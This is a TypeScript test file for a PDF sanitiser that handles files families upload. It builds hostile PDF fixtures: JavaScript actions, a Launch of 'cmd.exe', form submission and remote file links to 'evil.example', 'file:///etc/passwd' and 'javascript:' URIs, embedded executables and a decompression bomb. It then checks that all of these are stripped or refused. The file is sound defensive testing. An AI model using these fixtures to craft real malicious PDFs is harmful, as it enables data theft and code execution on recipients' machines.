import { deflateSync } from 'node:zlib';
import {
  decodePDFRawStream,
  PDFArray,
  PDFDict,
  PDFDocument,
  PDFName,
  PDFRawStream,
  PDFStream,
  PDFString,
  type PDFObject,
} from '@cantoo/pdf-lib';
import { describe, expect, test } from 'vitest';
import { encodePdf } from './encode-pdf.ts';
import { pdfWith } from './pdf.fixture.ts';

type Change = (document: PDFDocument) => unknown;
type Entries = Record<string, unknown>;

const text = (value: string) => PDFString.of(value);
const javaScript: Entries = { S: 'JavaScript', JS: text('app.alert(1)') };

const inCatalog =
  (key: string, value: Entries): Change =>
  ({ catalog, context }) =>
    catalog.set(PDFName.of(key), context.register(context.obj(value as never)));

const onPage =
  (key: string, value: Entries): Change =>
  (document) =>
    document.getPage(0).node.set(PDFName.of(key), document.context.obj(value as never));

const annotation = (value: Entries): Change => {
  const made: Entries = { Type: 'Annot', Rect: [0, 0, 9, 9], ...value };
  return (document) => {
    const { context } = document;
    const ref = context.register(context.obj(made as never));
    document.getPage(0).node.set(PDFName.of('Annots'), context.obj([ref]));
  };
};

const link = (action: Entries): Change => annotation({ Subtype: 'Link', A: action });

/** A field of a form, which stands on the first page as well. */
const field = (value: Entries): Change => {
  const place = annotation({ Subtype: 'Widget', FT: 'Tx', T: text('Allergies'), V: text('Nuts'), ...value });
  return async (document) => {
    await place(document);
    const fields = document.getPage(0).node.get(PDFName.of('Annots'));
    document.catalog.set(PDFName.of('AcroForm'), document.context.obj({ Fields: fields } as never));
  };
};

/** Everything that a PDF says, whether it is reached from a page or not: names of keys and values, and texts. */
async function wordsOf(bytes: Uint8Array): Promise<Set<string>> {
  const { context } = await PDFDocument.load(bytes, { updateMetadata: false });
  const words = new Set<string>();
  const read = (value: PDFObject): void => {
    if (value instanceof PDFName) words.add(value.decodeText());
    else if (value instanceof PDFString) words.add(value.asString());
    else if (value instanceof PDFArray) value.asArray().forEach(read);
    else if (value instanceof PDFDict) value.entries().flat().forEach(read);
    else if (value instanceof PDFStream) read(value.dict);
    if (value instanceof PDFRawStream) words.add(Buffer.from(decodePDFRawStream(value).decode()).toString('latin1'));
  };
  for (const [, object] of context.enumerateIndirectObjects()) read(object);
  return words;
}

async function rewritten(bytes: Uint8Array): Promise<Uint8Array> {
  const result = await encodePdf(bytes);
  if (!result.ok) throw new Error(result.refusal.message);
  return result.value;
}

const file = new Uint8Array(Buffer.from('SECRET-PROGRAM'));

const hostile: readonly (readonly [what: string, trace: string, change: Change])[] = [
  ['a script of the document', 'JavaScript', (document) => document.addJavaScript('main', 'app.alert(1)')],
  ['a script on opening', 'JavaScript', inCatalog('OpenAction', javaScript)],
  ['a script before printing', 'JS', inCatalog('AA', { WP: javaScript })],
  ['a script as its page opens', 'JS', onPage('AA', { O: javaScript })],
  ['a script as somebody types', 'JS', field({ AA: { K: javaScript } })],
  ['a script behind a link', 'JS', link(javaScript)],
  ['a script whose name is written in another way', 'JS', link({ S: 'JavaScr#69pt', JS: text('app.alert(1)') })],
  ['a script after a move', 'JS', link({ S: 'GoTo', D: text('top'), Next: [javaScript] })],
  [
    'a script after a script after a move',
    'JS',
    link({ S: 'GoTo', D: text('top'), Next: { S: 'GoTo', Next: javaScript } }),
  ],
  ['a program that it starts', 'Launch', link({ S: 'Launch', F: text('cmd.exe') })],
  ['a form that it sends away', 'SubmitForm', field({ A: { S: 'SubmitForm', F: text('https://evil.example') } })],
  ['values that it fetches', 'ImportData', link({ S: 'ImportData', F: text('values.fdf') })],
  ['another file that it opens', 'GoToR', link({ S: 'GoToR', F: text('//evil.example/share') })],
  ['an action that nobody knows', 'Explode', link({ S: 'Explode' })],
  ['a link to a script', 'javascript:alert(1)', link({ S: 'URI', URI: text('javascript:alert(1)') })],
  ['a link to a file', 'file:///etc/passwd', link({ S: 'URI', URI: text('file:///etc/passwd') })],
  ['a link from nowhere', 'elsewhere', link({ S: 'URI', URI: text('elsewhere') })],
  ['a file inside', 'SECRET-PROGRAM', (document) => document.attach(file, 'plan.exe')],
  ['a pinned file', 'FileAttachment', annotation({ Subtype: 'FileAttachment', FS: { F: text('a'), EF: {} } })],
  ['a player', 'RichMedia', annotation({ Subtype: 'RichMedia', RichMediaContent: { Assets: {} } })],
  ['a form in XML', 'XFA', inCatalog('AcroForm', { Fields: [], XFA: [text('template'), text('<xdp/>')] })],
  ['a script that nothing leads to', 'JS', ({ context }) => context.register(context.obj(javaScript as never))],
  [
    'content from another file',
    'https://evil.example/x',
    ({ context, catalog }) => {
      const stream = context.stream('', { F: text('https://evil.example/x') } as never);
      catalog.set(PDFName.of('Dests'), context.obj({ a: context.register(stream) }));
    },
  ],
];

describe('a PDF that a family sends', () => {
  test.each(hostile)('loses %s, and keeps its pages', async (_, trace, change) => {
    const sent = await pdfWith(change, 3);
    expect([...(await wordsOf(sent))]).toContain(trace);
    const kept = await rewritten(sent);
    const words = [...(await wordsOf(kept))];
    for (const key of [trace, 'JS', 'JavaScript', 'AA', 'OpenAction', 'EmbeddedFiles', 'EF', 'XFA', 'Launch']) {
      expect(words).not.toContain(key);
    }
    expect((await PDFDocument.load(kept)).getPageCount()).toBe(3);
  });

  test('keeps what is written on it and in its form, its bookmarks, and links within it and to web pages', async () => {
    const change: Change = async (document) => {
      await field({ A: { S: 'URI', URI: text('https://www.nhs.uk/asthma') } })(document);
      const { catalog, context } = document;
      const first = context.register(
        context.obj({ Title: text('Medicine'), A: { S: 'GoTo', D: text('medicine') } } as never),
      );
      catalog.set(PDFName.of('Outlines'), context.obj({ First: first, Last: first, Count: 1 }));
      catalog.set(PDFName.of('Names'), context.obj({ Dests: { Names: [text('medicine'), ['Fit']] } } as never));
    };
    const words = await wordsOf(await rewritten(await pdfWith(change)));
    for (const word of ['Nuts', 'https://www.nhs.uk/asthma', 'Medicine', 'GoTo', 'medicine'])
      expect(words).toContain(word);
    const drawn = Buffer.from('Care plan, page 1').toString('hex').toUpperCase();
    expect([...words].some((word) => word.includes(drawn))).toBe(true);
  });

  test('says nothing of who wrote it', async () => {
    const sent = await pdfWith((document) => document.setAuthor('SECRET-AUTHOR'));
    const { context } = await PDFDocument.load(await rewritten(sent), { updateMetadata: false });
    expect((await PDFDocument.load(sent)).getAuthor()).toBe('SECRET-AUTHOR');
    expect(context.trailerInfo.Info).toBeUndefined();
  });

  test('that is locked is refused, and its sender is told what to do', async () => {
    const locked = await pdfWith((document) => document.encrypt({ userPassword: 'a', ownerPassword: 'b' }));
    expect(await encodePdf(locked)).toMatchObject({
      refusal: {
        key: 'pdf-is-locked',
        message: 'This PDF is locked. Save it without a password, or send a photo of it.',
      },
    });
  });

  const unreadable = {
    key: 'not-a-pdf',
    message: 'We could not read this PDF. Print it as a new PDF, or send a photo of it.',
  };

  /** A stream of objects that unpacks to 70 MB, in front of a PDF in order. */
  const withBomb = async () => {
    const packed = deflateSync(Buffer.alloc(70_000_000, ' '));
    const head = `%PDF-1.7\n900 0 obj\n<</Type/ObjStm/N 0/First 0/Filter/FlateDecode/Length ${packed.length}>>\nstream\n`;
    return Buffer.concat([Buffer.from(head), packed, Buffer.from('\nendstream\nendobj\n'), await pdfWith()]);
  };
  const manyParts = () => Array.from({ length: 100_000 }, (_, part) => `${part + 900} 0 obj\n1\nendobj\n`).join('');
  const inCircle: Change = ({ catalog, context }) =>
    catalog.Pages().set(PDFName.of('Kids'), context.obj([catalog.get(PDFName.of('Pages')) ?? null]));

  test.each<[string, () => Promise<Uint8Array> | Uint8Array]>([
    ['only says that it is one', () => Buffer.from('%PDF-1.7\nplan')],
    ['was cut off', async () => (await pdfWith(undefined, 9)).subarray(0, 700)],
    ['has no pages', () => pdfWith(undefined, 0)],
    ['is nested without end', () => Buffer.from(`%PDF-1.7\n1 0 obj\n${'['.repeat(1_000_000)}`)],
    ['has pages in a circle', () => pdfWith(inCircle)],
    ['has too many parts', async () => Buffer.concat([Buffer.from(`%PDF-1.7\n${manyParts()}`), await pdfWith()])],
    ['unpacks to more than it may', withBomb],
  ])('that %s is refused', async (_, make) => {
    expect(await encodePdf(await make())).toMatchObject({ refusal: unreadable });
  });

  test('that keeps its reader busy is given up', async () => {
    const list = '1 0 obj\n<</Type/XRef/Size 4000000000/W[1 1 1]/Length 1>>\nstream\na\nendstream\nendobj\n';
    const endless = Buffer.concat([Buffer.from(`%PDF-1.7\n${list}`), await pdfWith()]);
    expect(await encodePdf(endless, { seconds: 1 })).toMatchObject({ refusal: unreadable });
  });
});
